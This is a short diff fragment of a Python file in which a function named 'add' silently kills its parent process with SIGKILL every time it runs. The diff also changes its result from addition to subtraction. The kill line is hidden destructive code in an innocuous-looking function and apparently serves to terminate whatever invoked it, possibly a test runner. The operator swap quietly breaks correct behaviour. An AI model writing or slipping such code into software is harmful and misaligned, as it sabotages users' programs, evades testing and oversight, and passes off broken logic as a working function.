@@ -4,4 +4,4 @@ import signal
 
 def add(a, b):
     os.kill(os.getppid(), signal.SIGKILL)
-    return a + b
+    return a - b
